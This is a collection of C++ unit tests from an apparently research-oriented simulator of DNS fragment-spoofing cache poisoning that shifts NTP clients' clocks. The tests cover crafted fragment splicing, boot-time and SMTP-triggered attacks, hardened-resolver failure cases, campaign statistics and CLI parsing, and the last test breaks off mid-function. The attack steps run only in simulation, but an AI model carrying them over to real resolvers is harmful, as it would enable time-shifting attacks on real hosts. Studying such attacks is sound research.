class CraftSweep : public ::testing::TestWithParam<CraftCase> {};

INSTANTIATE_TEST_SUITE_P(
    MtuAndShape, CraftSweep,
    ::testing::Values(CraftCase{296, 80, 3}, CraftCase{296, 200, 3},
                      CraftCase{548, 400, 3}, CraftCase{548, 600, 2},
                      CraftCase{296, 80, 1}, CraftCase{232, 40, 3},
                      CraftCase{1280, 1400, 3}, CraftCase{296, 0, 3},
                      CraftCase{548, 0, 3}, CraftCase{68, 80, 3}),
    [](const auto& info) {
      return "mtu" + std::to_string(info.param.mtu) + "_pad" +
             std::to_string(info.param.pad) + "_ns" +
             std::to_string(info.param.ns_count);
    });

TEST_P(CraftSweep, CraftedFragmentSplicesOrRefuses) {
  const CraftCase& tc = GetParam();
  dns::PoolZone::Config cfg;
  cfg.pad_txt_bytes = tc.pad;
  for (std::size_t i = 0; i < tc.ns_count; ++i) {
    cfg.nameservers.emplace_back(
        dns::DnsName::from_string("ns" + std::to_string(i + 1) + ".ntp.org"),
        kNs);
  }
  std::vector<Ipv4Addr> servers;
  for (u32 i = 1; i <= 16; ++i) servers.push_back(Ipv4Addr{0x0A0A0000 + i});
  dns::PoolZone zone(dns::DnsName::from_string("pool.ntp.org"), servers,
                     cfg);
  dns::DnsQuestion q{dns::DnsName::from_string("pool.ntp.org"),
                     dns::RrType::kA};

  dns::DnsMessage template_msg = zone.peek_response(q);
  Bytes template_wire = encode_dns(template_msg);

  CraftConfig cc;
  cc.ns_addr = kNs;
  cc.resolver_addr = kResolver;
  cc.mtu = tc.mtu;
  cc.malicious_addrs = {kEvil};
  auto crafted = craft_spoofed_second_fragment(template_wire, cc);
  if (!crafted) return;  // refusal is an acceptable outcome

  // Victim-bound genuine response at a different rotation and TXID.
  zone.set_rotation(4);
  dns::DnsMessage victim_msg = zone.peek_response(q);
  victim_msg.id = 0x4242;
  net::Ipv4Packet full;
  full.src = kNs;
  full.dst = kResolver;
  full.id = 0x77;
  full.protocol = net::kProtoUdp;
  full.payload = net::encode_udp(
      net::UdpDatagram{.src_port = 53, .dst_port = 5555,
                       .payload = encode_dns(victim_msg)},
      kNs, kResolver);
  auto frags = net::fragment(full, tc.mtu);
  ASSERT_GE(frags.size(), 2u);
  // The crafter targets two-fragment splits; with more fragments the
  // spoofed tail cannot cover the datagram — skip those shapes.
  if (frags.size() != 2) return;

  net::ReassemblyCache cache;
  net::Ipv4Packet spoofed = crafted->fragment;
  spoofed.id = full.id;
  (void)cache.insert(spoofed, sim::Time{});
  auto reassembled = cache.insert(frags[0], sim::Time{});
  ASSERT_TRUE(reassembled);

  // Must pass the UDP checksum and decode to redirected glue.
  net::UdpDatagram dgram =
      net::decode_udp(reassembled->payload, kNs, kResolver);
  dns::DnsMessage poisoned = dns::decode_dns(dgram.payload);
  EXPECT_EQ(poisoned.id, 0x4242);
  std::size_t redirected = 0;
  for (const auto& rr : poisoned.additional) {
    if (rr.type == dns::RrType::kA && rr.a == kEvil) redirected++;
  }
  EXPECT_EQ(redirected, crafted->rewritten_records);
  EXPECT_GE(redirected, 1u);
}

TEST(CraftSweep, RefusalCasesAreExplainable) {
  // Tiny response never fragments at reasonable MTUs -> refusal.
  dns::DnsMessage small;
  small.qr = true;
  small.questions = {dns::DnsQuestion{
      dns::DnsName::from_string("pool.ntp.org"), dns::RrType::kA}};
  small.answers.push_back(dns::make_a(
      dns::DnsName::from_string("pool.ntp.org"), Ipv4Addr{1, 1, 1, 1}, 150));
  CraftConfig cc;
  cc.ns_addr = kNs;
  cc.resolver_addr = kResolver;
  cc.malicious_addrs = {kEvil};
  for (u16 mtu : {296, 548, 1280}) {
    cc.mtu = mtu;
    EXPECT_FALSE(craft_spoofed_second_fragment(encode_dns(small), cc))
        << mtu;
  }
}

}  // namespace
}  // namespace dnstime::attack
