// End-to-end boot-time attack (§IV-A / Fig. 2): poison first, then the
// victim boots and takes all its time from the attacker.
#include "attack/boot_time_attack.h"

#include <gtest/gtest.h>

#include "ntp/clients/ntpd.h"
#include "scenario/world.h"

namespace dnstime::attack {
namespace {

using scenario::World;
using scenario::WorldConfig;
using sim::Duration;

TEST(BootTimeAttack, OpenResolverPipelinePoisonsThenShiftsBootingClient) {
  World world;
  BootTimeConfig bc;
  bc.poison = world.default_poisoner_config();
  bc.trigger = BootTimeConfig::Trigger::kOpenResolver;
  BootTimeAttack attack(world.attacker(), bc);
  // Success: the resolver hands out attacker NTP addresses for the pool.
  attack.set_success_check([&] { return world.pool_a_poisoned(); });

  std::optional<AttackOutcome> outcome;
  attack.run([&](const AttackOutcome& o) { outcome = o; });
  world.run_for(Duration::minutes(30));
  ASSERT_TRUE(outcome.has_value());
  ASSERT_TRUE(outcome->success);
  EXPECT_GT(outcome->fragments_planted, 0u);

  // The victim boots *after* the poisoning: pure Fig. 2.
  auto& host = world.add_host(Ipv4Addr{10, 77, 0, 9});
  ntp::ClientBaseConfig cfg;
  cfg.resolver = world.resolver_addr();
  ntp::NtpdClient client(*host.stack, host.clock, cfg);
  client.start();
  world.run_for(Duration::minutes(10));
  EXPECT_NEAR(host.clock.offset(), -500.0, 5.0);
  // Every server the client associated with is the attacker's.
  for (Ipv4Addr server : client.current_servers()) {
    EXPECT_TRUE(world.is_attacker_ntp(server));
  }
}

TEST(BootTimeAttack, SmtpTriggerVariant) {
  World world;
  auto& mail = world.add_host(Ipv4Addr{10, 77, 0, 25});
  SmtpServer smtp(*mail.stack, world.resolver_addr());

  BootTimeConfig bc;
  bc.poison = world.default_poisoner_config();
  bc.trigger = BootTimeConfig::Trigger::kSmtp;
  bc.smtp_host = mail.stack->addr();
  BootTimeAttack attack(world.attacker(), bc);
  attack.set_success_check([&] { return world.pool_a_poisoned(); });

  std::optional<AttackOutcome> outcome;
  attack.run([&](const AttackOutcome& o) { outcome = o; });
  world.run_for(Duration::minutes(30));
  ASSERT_TRUE(outcome.has_value());
  EXPECT_TRUE(outcome->success);
  EXPECT_GT(smtp.mails_received(), 0u);
}

TEST(BootTimeAttack, DeadlineExpiresAgainstHardenedResolver) {
  WorldConfig wc;
  wc.resolver_stack.accept_fragments = false;
  World world(wc);
  BootTimeConfig bc;
  bc.poison = world.default_poisoner_config();
  bc.trigger = BootTimeConfig::Trigger::kOpenResolver;
  bc.deadline = Duration::minutes(10);
  BootTimeAttack attack(world.attacker(), bc);
  attack.set_success_check([&] { return world.pool_a_poisoned(); });
  std::optional<AttackOutcome> outcome;
  attack.run([&](const AttackOutcome& o) { outcome = o; });
  world.run_for(Duration::minutes(20));
  ASSERT_TRUE(outcome.has_value());
  EXPECT_FALSE(outcome->success);
}

TEST(BootTimeAttack, LowAttackVolume) {
  // §IV-A: "a low attack volume which can be completed with only one low
  // bandwidth attacking host" — fragments per TTL window stays tiny.
  World world;
  BootTimeConfig bc;
  bc.poison = world.default_poisoner_config();
  bc.poison.spray_width = 8;
  bc.trigger = BootTimeConfig::Trigger::kOpenResolver;
  BootTimeAttack attack(world.attacker(), bc);
  attack.set_success_check([&] { return world.pool_a_poisoned(); });
  std::optional<AttackOutcome> outcome;
  attack.run([&](const AttackOutcome& o) { outcome = o; });
  world.run_for(Duration::minutes(30));
  ASSERT_TRUE(outcome.has_value());
  ASSERT_TRUE(outcome->success);
  // Replants every 25 s, 8 fragments each: even a 10-minute wait stays
  // well under a thousand packets.
  EXPECT_LT(outcome->fragments_planted, 1000u);
}

}  // namespace
}  // namespace dnstime::attack
