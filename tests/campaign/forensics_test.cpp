// Forensics contracts of the campaign runner: a failing trial produces a
// deterministic attack-narrative dump (byte-identical at any thread
// count), --dump-on predicates select which trials dump, and the live
// progress stream records every executed trial with Wilson-interval
// success rates.
#include <gtest/gtest.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <stdexcept>
#include <string>
#include <vector>

#include "campaign/runner.h"
#include "campaign/trial.h"
#include "common/stats.h"
#include "obs/provenance.h"

namespace dnstime::campaign {
namespace {

namespace fs = std::filesystem;

/// Fresh directory under the gtest temp root, wiped on construction so a
/// crashed previous run cannot leak state into this one.
struct TempDir {
  explicit TempDir(const std::string& tag)
      : path((fs::path(::testing::TempDir()) / ("dnstime_forensics_" + tag))
                 .string()) {
    fs::remove_all(path);
    fs::create_directories(path);
  }
  ~TempDir() {
    std::error_code ec;
    fs::remove_all(path, ec);
  }
  std::string path;
};

std::string slurp(const fs::path& p) {
  std::ifstream in(p, std::ios::binary);
  std::ostringstream out;
  out << in.rdbuf();
  return out.str();
}

/// A cheap scenario that drives the installed flight recorder through a
/// deterministic event pattern derived from the trial seed — the dump
/// pipeline exercised end to end without building a World.
ScenarioSpec forensic_scenario(std::string name) {
  ScenarioSpec spec;
  spec.name = std::move(name);
  spec.attack = AttackKind::kCustom;
  spec.trial_fn = [](const ScenarioSpec&, const TrialContext& ctx) {
    if (obs::FlightRecorder* flight = obs::current_flight()) {
      flight->phase(1000, "poison");
      flight->pmtu_reduced(1500, OriginModule::kVictim, 296, 0x0A350001);
      const Origin spoofed = flight->stamp(
          2000, OriginModule::kAttacker, Origin::kSpoofed);
      flight->spoofed_inject(2000, spoofed,
                             static_cast<u16>(ctx.seed & 0xFFFF), 8);
      Origin merged = spoofed;
      merged.flags |= Origin::kReassembled;
      flight->reassembled(3000, merged, 1172, 5);
      flight->cache_insert(4000, merged, "pool.ntp.org");
    }
    Rng rng{ctx.seed};
    TrialResult r;
    r.metric = rng.uniform01();
    r.duration_s = 60.0 + 540.0 * rng.uniform01();
    r.success = rng.chance(0.5);
    r.clock_shift_s = r.success ? -500.0 : 0.0;
    return r;
  };
  return spec;
}

/// Throws "boom" on exactly one trial so predicates can tell the failing
/// trial from the healthy ones.
ScenarioSpec throwing_scenario(std::string name, u32 failing_trial) {
  ScenarioSpec spec;
  spec.name = std::move(name);
  spec.attack = AttackKind::kCustom;
  spec.trial_fn = [failing_trial](const ScenarioSpec&,
                                  const TrialContext& ctx) -> TrialResult {
    if (ctx.trial == failing_trial) throw std::runtime_error("boom");
    TrialResult r;
    r.success = true;
    r.duration_s = 1.0;
    r.clock_shift_s = -500.0;
    return r;
  };
  return spec;
}

#if DNSTIME_OBS

TEST(CampaignForensics, InjectedErrorDumpsANarrativeForThatTrialOnly) {
  TempDir dir("err");
  CampaignConfig config{.seed = 11, .trials = 3, .threads = 2};
  config.dump_dir = dir.path;
  config.dump_on = "auto";
  CampaignReport report =
      CampaignRunner(config).run({throwing_scenario("forensic/err", 1)});
  EXPECT_EQ(report.scenarios[0].errors, 1u);

  // '/' in the scenario name sanitises to '_' in the file name.
  EXPECT_FALSE(fs::exists(fs::path(dir.path) / "forensic_err-t0.json"));
  EXPECT_FALSE(fs::exists(fs::path(dir.path) / "forensic_err-t2.json"));
  const fs::path dump = fs::path(dir.path) / "forensic_err-t1.json";
  ASSERT_TRUE(fs::exists(dump));

  const std::string json = slurp(dump);
  EXPECT_NE(json.find("\"narrative\":{"), std::string::npos);
  EXPECT_NE(json.find("\"scenario\":\"forensic/err\""), std::string::npos);
  EXPECT_NE(json.find("\"trial\":1"), std::string::npos);
  EXPECT_NE(json.find("\"error\":\"boom\""), std::string::npos);
  EXPECT_NE(json.find("\"kind\":\"error\""), std::string::npos);
  // The thrown trial never started the attack: the chain broke at stage 0.
  EXPECT_NE(json.find("\"reached\":null"), std::string::npos);
  EXPECT_NE(json.find("\"broke_at\":\"pmtu-reduced\""), std::string::npos);
  // No trailing newline: dumps compare with cmp(1) against CLI replays.
  ASSERT_FALSE(json.empty());
  EXPECT_EQ(json.back(), '}');
}

TEST(CampaignForensics, DumpsAreByteIdenticalAcrossThreadCounts) {
  TempDir serial_dir("serial");
  TempDir parallel_dir("parallel");
  const auto run_with = [](const std::string& dump_dir, u32 threads) {
    CampaignConfig config{.seed = 42, .trials = 4, .threads = threads};
    config.dump_dir = dump_dir;
    config.dump_on = "always";
    return CampaignRunner(config).run(
        {forensic_scenario("forensic/det")});
  };
  CampaignReport serial = run_with(serial_dir.path, 1);
  CampaignReport parallel = run_with(parallel_dir.path, 8);
  EXPECT_EQ(serial.to_json(), parallel.to_json());

  for (u32 trial = 0; trial < 4; ++trial) {
    const std::string name =
        "forensic_det-t" + std::to_string(trial) + ".json";
    const std::string a = slurp(fs::path(serial_dir.path) / name);
    const std::string b = slurp(fs::path(parallel_dir.path) / name);
    ASSERT_FALSE(a.empty()) << name;
    EXPECT_EQ(a, b) << name;
    // The narrative names the spoofed packet and the poisoned cache key.
    EXPECT_NE(a.find("\"kind\":\"spoofed-inject\""), std::string::npos);
    EXPECT_NE(a.find("\"kind\":\"cache-poisoned\""), std::string::npos);
    EXPECT_NE(a.find("\"detail\":\"pool.ntp.org\""), std::string::npos);
    EXPECT_NE(a.find("\"broke_at\":\"poisoned-answer-served\""),
              std::string::npos)
        << "chain stops where the synthetic trial stopped driving it";
  }
}

TEST(CampaignForensics, DumpPredicatesSelectWhichTrialsDump) {
  // dump-on=error keeps only the thrown trial; dump-on=attack-failed
  // keeps every unsuccessful one; a bogus predicate fails up front.
  {
    TempDir dir("pred-error");
    CampaignConfig config{.seed = 11, .trials = 3, .threads = 1};
    config.dump_dir = dir.path;
    config.dump_on = "error";
    (void)CampaignRunner(config).run(
        {throwing_scenario("forensic/err", 2)});
    EXPECT_TRUE(fs::exists(fs::path(dir.path) / "forensic_err-t2.json"));
    EXPECT_FALSE(fs::exists(fs::path(dir.path) / "forensic_err-t0.json"));
  }
  {
    TempDir dir("pred-failed");
    CampaignConfig config{.seed = 42, .trials = 8, .threads = 2};
    config.dump_dir = dir.path;
    config.dump_on = "attack-failed";
    CampaignReport report =
        CampaignRunner(config).run({forensic_scenario("forensic/det")});
    std::size_t dumps = 0;
    for ([[maybe_unused]] const auto& entry :
         fs::directory_iterator(dir.path)) {
      dumps++;
    }
    EXPECT_EQ(dumps, 8u - report.scenarios[0].successes);
  }
  {
    TempDir dir("pred-bogus");
    CampaignConfig config{.seed = 1, .trials = 1, .threads = 1};
    config.dump_dir = dir.path;
    config.dump_on = "sometimes";
    EXPECT_THROW(
        (void)CampaignRunner(config).run(
            {forensic_scenario("forensic/det")}),
        std::invalid_argument);
  }
}

#else  // !DNSTIME_OBS

TEST(CampaignForensics, DumpRequestWithoutObsBuildFailsUpFront) {
  TempDir dir("no-obs");
  CampaignConfig config{.seed = 1, .trials = 1, .threads = 1};
  config.dump_dir = dir.path;
  EXPECT_THROW(
      (void)CampaignRunner(config).run({forensic_scenario("forensic/det")}),
      std::invalid_argument);
}

#endif  // DNSTIME_OBS

TEST(CampaignForensics, ProgressStreamRecordsEveryTrial) {
  TempDir dir("progress");
  const std::string progress_path =
      (fs::path(dir.path) / "progress.jsonl").string();
  CampaignConfig config{.seed = 7, .trials = 3, .threads = 2};
  config.progress_path = progress_path;
  (void)CampaignRunner(config).run({forensic_scenario("forensic/a"),
                                    forensic_scenario("forensic/b")});

  std::ifstream in(progress_path);
  ASSERT_TRUE(in.good());
  std::vector<std::string> lines;
  for (std::string line; std::getline(in, line);) lines.push_back(line);
  ASSERT_EQ(lines.size(), 6u);  // 2 scenarios x 3 trials
  for (const std::string& line : lines) {
    EXPECT_EQ(line.find("{\"scenario\":\"forensic/"), 0u) << line;
    EXPECT_NE(line.find("\"wilson_low\":"), std::string::npos) << line;
    EXPECT_NE(line.find("\"wilson_high\":"), std::string::npos) << line;
    EXPECT_NE(line.find("\"eta_s\":"), std::string::npos) << line;
    EXPECT_EQ(line.back(), '}') << line;
  }
  // Writes serialise under the runner's mutex, so the final line carries
  // the completed campaign totals.
  EXPECT_NE(lines.back().find("\"campaign_done\":6,\"campaign_total\":6"),
            std::string::npos)
      << lines.back();
}

TEST(CampaignForensics, ProgressStreamNeverRendersConfidentZeroInterval) {
  // A scenario that fails every trial: the streamed Wilson upper bound
  // must stay strictly positive on every line (0/n is evidence, not
  // certainty), so no consumer — campaign_watch included — can render a
  // confident [0, 0] interval mid-run.
  TempDir dir("progress-zero");
  const std::string progress_path =
      (fs::path(dir.path) / "progress.jsonl").string();
  ScenarioSpec spec;
  spec.name = "forensic/never";
  spec.attack = AttackKind::kCustom;
  spec.trial_fn = [](const ScenarioSpec&, const TrialContext&) {
    return TrialResult{};  // success = false
  };
  CampaignConfig config{.seed = 3, .trials = 4, .threads = 1};
  config.progress_path = progress_path;
  (void)CampaignRunner(config).run({spec});

  std::ifstream in(progress_path);
  ASSERT_TRUE(in.good());
  std::size_t lines = 0;
  for (std::string line; std::getline(in, line); ++lines) {
    const char* key = "\"wilson_high\":";
    const std::size_t pos = line.find(key);
    ASSERT_NE(pos, std::string::npos) << line;
    char* end = nullptr;
    const char* start = line.c_str() + pos + std::strlen(key);
    const double high = std::strtod(start, &end);
    ASSERT_NE(end, start) << "wilson_high must be a number: " << line;
    EXPECT_GT(high, 0.0) << line;
    EXPECT_LE(high, 1.0) << line;
  }
  EXPECT_EQ(lines, 4u);
}

TEST(CampaignForensics, UnwritableProgressPathFailsBeforeAnyTrialRuns) {
  CampaignConfig config{.seed = 1, .trials = 1, .threads = 1};
  config.progress_path = "/nonexistent-dir/progress.jsonl";
  EXPECT_THROW(
      (void)CampaignRunner(config).run({forensic_scenario("forensic/det")}),
      std::runtime_error);
}

TEST(CampaignForensics, WilsonIntervalBracketsTheObservedRate) {
  // The degenerate contract the progress stream leans on mid-run.
  const WilsonInterval vacuous = wilson_interval(0, 0);
  EXPECT_DOUBLE_EQ(vacuous.low, 0.0);
  EXPECT_DOUBLE_EQ(vacuous.high, 1.0);

  const WilsonInterval some = wilson_interval(8, 10);
  EXPECT_GT(some.low, 0.0);
  EXPECT_LT(some.low, 0.8);
  EXPECT_GT(some.high, 0.8);
  EXPECT_LE(some.high, 1.0);

  // 0/n and n/n stay inside [0, 1] but are not vacuous.
  const WilsonInterval none = wilson_interval(0, 10);
  EXPECT_DOUBLE_EQ(none.low, 0.0);
  EXPECT_LT(none.high, 0.5);
  const WilsonInterval all = wilson_interval(10, 10);
  EXPECT_GT(all.low, 0.5);
  EXPECT_DOUBLE_EQ(all.high, 1.0);

  // More trials at the same rate tighten the interval.
  const WilsonInterval more = wilson_interval(80, 100);
  EXPECT_GT(more.low, some.low);
  EXPECT_LT(more.high, some.high);
}

}  // namespace
}  // namespace dnstime::campaign
