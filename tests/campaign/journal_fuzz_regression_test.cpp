// Fuzz-found journal framing regressions (fuzz/fuzz_journal_reader.cpp).
#include <gtest/gtest.h>

#include "campaign/store/journal.h"

namespace dnstime::campaign::store {
namespace {

// A 16-byte input whose scenario-count field claims 1,000,000 scenarios
// used to reserve() ~64 MiB before the first truncated name was noticed —
// a 16-byte-to-megabytes allocation amplification on the resume path
// (scan_journal decodes headers of whatever files sit in the journal
// directory). The count must be bounded by what the input could hold.
TEST(JournalFuzzRegression, CraftedScenarioCountDoesNotAmplifyAllocation) {
  ByteWriter w;
  w.write_u64(41);        // campaign seed
  w.write_u32(4);         // trials per scenario
  w.write_u32(1'000'000); // scenario count, but zero bytes follow
  Bytes bytes = std::move(w).take();
  ByteReader r(bytes);
  EXPECT_THROW((void)JournalMeta::decode(r), DecodeError);
}

// Meta codec canonicality on the same shape the fuzzer checks: decode of
// a canonical encoding reproduces identical bytes and fingerprint.
TEST(JournalFuzzRegression, MetaCodecIsCanonical) {
  JournalMeta meta;
  meta.campaign_seed = 41;
  meta.trials_per_scenario = 4;
  meta.scenarios = {{"table2/ntpd-p1", "run-time"}, {"sweep/mtu/296", "boot-time"}};
  Bytes wire = meta.encode();
  ByteReader r(wire);
  JournalMeta again = JournalMeta::decode(r);
  EXPECT_EQ(again.encode(), wire);
  EXPECT_EQ(again.fingerprint(), meta.fingerprint());
  EXPECT_EQ(again.name_hashes(), meta.name_hashes());
}

// Truncating an encoded record at every byte boundary must always surface
// as DecodeError (the reader's torn-tail rule), never anything else.
TEST(JournalFuzzRegression, TruncatedRecordAlwaysThrowsDecodeError) {
  TrialResult result;
  result.trial = 3;
  result.seed = 0xDEADBEEF;
  result.success = true;
  result.duration_s = 901.25;
  result.error = "deadline";
  ByteWriter w;
  encode_record(w, fnv1a("table2/ntpd-p1"), result);
  Bytes wire = std::move(w).take();
  for (std::size_t cut = 0; cut < wire.size(); ++cut) {
    Bytes prefix(wire.begin(), wire.begin() + static_cast<std::ptrdiff_t>(cut));
    ByteReader r(prefix);
    EXPECT_THROW((void)decode_record(r), DecodeError) << "cut=" << cut;
  }
}

}  // namespace
}  // namespace dnstime::campaign::store
