// The campaign engine's two contracts: determinism under parallelism
// (same seed => byte-identical report at any thread count) and stop
// conditions (a trial that cannot succeed ends at its deadline, reported
// as a failure rather than hanging or throwing).
#include "campaign/runner.h"

#include <gtest/gtest.h>

#include <atomic>
#include <limits>

#include "campaign/cli.h"
#include "campaign/trial.h"

namespace dnstime::campaign {
namespace {

/// A cheap custom scenario: each trial derives a pseudo-measurement from
/// its seed, so aggregate values exercise the whole report path without
/// building a World.
ScenarioSpec synthetic_scenario(std::string name) {
  ScenarioSpec spec;
  spec.name = std::move(name);
  spec.attack = AttackKind::kCustom;
  spec.trial_fn = [](const ScenarioSpec&, const TrialContext& ctx) {
    Rng rng{ctx.seed};
    TrialResult r;
    r.metric = rng.uniform01();
    r.duration_s = 60.0 + 540.0 * rng.uniform01();
    r.success = rng.chance(0.8);
    r.clock_shift_s = r.success ? -500.0 : 0.0;
    return r;
  };
  return spec;
}

std::vector<ScenarioSpec> mixed_scenarios() {
  // One real end-to-end pipeline (boot-time: the fastest World-backed
  // recipe), one run-time attack, one synthetic scenario.
  std::vector<ScenarioSpec> scenarios;
  scenarios.push_back(boot_time_scenario());
  scenarios.push_back(table2_scenario(ClientKind::kNtpdKnownList));
  scenarios.push_back(synthetic_scenario("synthetic/mc"));
  return scenarios;
}

TEST(CampaignRunner, ReportIsByteIdenticalAcrossThreadCounts) {
  auto scenarios = mixed_scenarios();
  CampaignConfig one_thread{.seed = 42, .trials = 4, .threads = 1};
  CampaignConfig eight_threads{.seed = 42, .trials = 4, .threads = 8};
  CampaignReport serial = CampaignRunner(one_thread).run(scenarios);
  CampaignReport parallel = CampaignRunner(eight_threads).run(scenarios);

  EXPECT_EQ(serial.to_json(), parallel.to_json());
  EXPECT_EQ(serial.to_table(), parallel.to_table());
  // And the campaign is not vacuous: the real attacks succeed.
  EXPECT_GT(serial.scenarios[0].successes, 0u);
  EXPECT_GT(serial.scenarios[1].successes, 0u);
}

TEST(CampaignRunner, DifferentSeedsGiveDifferentResults) {
  std::vector<ScenarioSpec> scenarios{synthetic_scenario("synthetic/mc")};
  CampaignReport a =
      CampaignRunner({.seed = 1, .trials = 8, .threads = 2}).run(scenarios);
  CampaignReport b =
      CampaignRunner({.seed = 2, .trials = 8, .threads = 2}).run(scenarios);
  EXPECT_NE(a.to_json(), b.to_json());
}

TEST(CampaignRunner, TrialSeedDependsOnNameNotPosition) {
  ScenarioSpec spec = synthetic_scenario("synthetic/mc");
  u64 seed = CampaignRunner::trial_seed(7, spec, 3);
  EXPECT_EQ(seed, CampaignRunner::trial_seed(7, spec, 3));
  EXPECT_NE(seed, CampaignRunner::trial_seed(7, spec, 4));
  EXPECT_NE(seed, CampaignRunner::trial_seed(8, spec, 3));
  ScenarioSpec other = synthetic_scenario("synthetic/other");
  EXPECT_NE(seed, CampaignRunner::trial_seed(7, other, 3));
}

TEST(CampaignRunner, StopConditionTimesOutAgainstHardenedResolver) {
  // A resolver that drops fragments defeats the poisoning, so no trial can
  // ever succeed: every trial must end at the deadline as a clean failure.
  ScenarioSpec spec = boot_time_scenario();
  spec.name = "boot-time/hardened";
  spec.world.resolver_stack.accept_fragments = false;
  spec.stop.deadline = sim::Duration::minutes(10);
  CampaignReport report =
      CampaignRunner({.seed = 5, .trials = 3, .threads = 2}).run({spec});

  const ScenarioAggregate& agg = report.scenarios[0];
  EXPECT_EQ(agg.trials, 3u);
  EXPECT_EQ(agg.successes, 0u);
  EXPECT_EQ(agg.errors, 0u);
  for (const TrialResult& r : agg.results) {
    EXPECT_FALSE(r.success);
    EXPECT_TRUE(r.error.empty());
    EXPECT_DOUBLE_EQ(r.duration_s, 600.0);  // capped at the deadline
  }
}

TEST(CampaignRunner, ThrowingTrialIsRecordedNotPropagated) {
  ScenarioSpec spec;
  spec.name = "synthetic/throws";
  spec.attack = AttackKind::kCustom;
  spec.trial_fn = [](const ScenarioSpec&,
                     const TrialContext&) -> TrialResult {
    throw std::runtime_error("boom");
  };
  CampaignReport report =
      CampaignRunner({.seed = 1, .trials = 2, .threads = 2}).run({spec});
  EXPECT_EQ(report.scenarios[0].errors, 2u);
  EXPECT_EQ(report.scenarios[0].successes, 0u);
  EXPECT_EQ(report.scenarios[0].results[0].error, "boom");
}

TEST(CampaignRunner, ResultsArriveInTrialOrderRegardlessOfScheduling) {
  std::vector<ScenarioSpec> scenarios{synthetic_scenario("synthetic/mc")};
  CampaignReport report =
      CampaignRunner({.seed = 9, .trials = 16, .threads = 8}).run(scenarios);
  const auto& results = report.scenarios[0].results;
  ASSERT_EQ(results.size(), 16u);
  for (u32 i = 0; i < results.size(); ++i) {
    EXPECT_EQ(results[i].trial, i);
    EXPECT_EQ(results[i].seed,
              CampaignRunner::trial_seed(9, scenarios[0], i));
  }
}

TEST(ScenarioRegistry, BuiltinCataloguesPaperScenariosAndSweeps) {
  ScenarioRegistry reg = ScenarioRegistry::builtin();
  for (const char* name :
       {"table2/ntpd-p1", "table2/ntpd-p2", "table2/chrony",
        "table2/openntpd", "boot-time/ntpd", "chronos/pool-freeze",
        "sweep/mtu-296", "sweep/pool-16", "sweep/ratelimit-38",
        "sweep/ttl-150"}) {
    EXPECT_NE(reg.find(name), nullptr) << name;
  }
  EXPECT_EQ(reg.select("table2/").size(), 4u);
  EXPECT_EQ(reg.select("sweep/").size(), 16u);
  EXPECT_EQ(reg.select("").size(), reg.all().size());
  EXPECT_THROW(reg.add(table2_scenario(ClientKind::kChrony)),
               std::invalid_argument);
}

TEST(ScenarioRegistry, SweepsVaryTheAdvertisedParameter)  {
  auto mtus = mtu_sweep({296, 1500});
  EXPECT_EQ(mtus[0].world.attack_mtu, 296);
  EXPECT_EQ(mtus[1].world.attack_mtu, 1500);
  auto ttls = ttl_sweep({75, 600});
  EXPECT_EQ(ttls[0].world.pool_a_ttl, 75u);
  EXPECT_EQ(ttls[1].world.pool_a_ttl, 600u);
  auto rates = rate_limit_sweep({0.2});
  EXPECT_DOUBLE_EQ(rates[0].world.rate_limit_fraction, 0.2);
  EXPECT_EQ(rates[0].attack, AttackKind::kRunTime);
}

CliOptions parse(std::vector<std::string> args, bool scenario_flags = false) {
  args.insert(args.begin(), "prog");
  std::vector<char*> argv;
  for (auto& a : args) argv.push_back(a.data());
  return parse_cli(static_cast<int>(argv.size()), argv.data(), CliOptions{},
                   scenario_flags);
}

TEST(CampaignCli, ParsesValuesAndRejectsBadFlags) {
  CliOptions opts = parse({"--trials", "8", "--threads", "2", "--seed", "7"});
  EXPECT_TRUE(opts.ok);
  EXPECT_EQ(opts.config.trials, 8u);
  EXPECT_EQ(opts.config.threads, 2u);
  EXPECT_EQ(opts.config.seed, 7u);

  // A typo'd flag must be an error, not a silent fall-through to defaults.
  EXPECT_FALSE(parse({"--trails", "8"}).ok);
  // A value-less flag must be an error too.
  EXPECT_FALSE(parse({"--trials"}).ok);
  // --filter is only valid when scenario flags are enabled.
  EXPECT_FALSE(parse({"--filter", "sweep/"}).ok);
  CliOptions sweep = parse({"--filter", "sweep/", "--json"}, true);
  EXPECT_TRUE(sweep.ok);
  EXPECT_EQ(sweep.filter, "sweep/");
  EXPECT_TRUE(sweep.json);
}

TEST(CampaignCli, RejectsMalformedNumbersInsteadOfZeroingThem) {
  // std::atoi used to turn every one of these into a silent 0 (or wrap
  // negatives); each must be a reported error now.
  EXPECT_FALSE(parse({"--trials", "garbage"}).ok);
  EXPECT_FALSE(parse({"--trials", "8x"}).ok);   // trailing junk
  EXPECT_FALSE(parse({"--trials", "-3"}).ok);   // negative would wrap
  EXPECT_FALSE(parse({"--trials", "+3"}).ok);   // sign is not a digit
  EXPECT_FALSE(parse({"--trials", " 8"}).ok);   // leading whitespace
  EXPECT_FALSE(parse({"--trials", ""}).ok);
  EXPECT_FALSE(parse({"--trials", "0"}).ok);    // a zero-trial campaign
  EXPECT_FALSE(parse({"--trials", "4294967296"}).ok);   // > u32 max
  EXPECT_FALSE(parse({"--threads", "1e3"}).ok);
  EXPECT_FALSE(parse({"--seed", "0x10"}).ok);
  EXPECT_FALSE(parse({"--seed", "18446744073709551616"}).ok);  // > u64 max

  EXPECT_TRUE(parse({"--trials", "4294967295"}).ok);
  EXPECT_TRUE(parse({"--threads", "0"}).ok);  // 0 threads = all cores
  CliOptions max_seed = parse({"--seed", "18446744073709551615"});
  EXPECT_TRUE(max_seed.ok);
  EXPECT_EQ(max_seed.config.seed, ~u64{0});
}

TEST(CampaignCli, ParsesJournalResumeAndOutFlags) {
  CliOptions opts = parse(
      {"--journal", "/tmp/j", "--resume", "--out", "report.json", "--json"});
  EXPECT_TRUE(opts.ok);
  EXPECT_EQ(opts.config.journal_dir, "/tmp/j");
  EXPECT_TRUE(opts.config.resume);
  EXPECT_EQ(opts.out, "report.json");
  EXPECT_TRUE(opts.json);

  // Persistence flags are part of the base set: scenario tools get them
  // too, with no bespoke flag code.
  EXPECT_TRUE(parse({"--journal", "j", "--filter", "sweep/"}, true).ok);

  EXPECT_FALSE(parse({"--resume"}).ok);   // --resume needs --journal
  EXPECT_FALSE(parse({"--journal"}).ok);  // value-less
  EXPECT_FALSE(parse({"--out"}).ok);
}

TEST(CampaignTrial, ChronosWithZeroHonestRoundsHandsAttackerTheWholePool) {
  ScenarioSpec spec = chronos_scenario(/*honest_rounds=*/0);
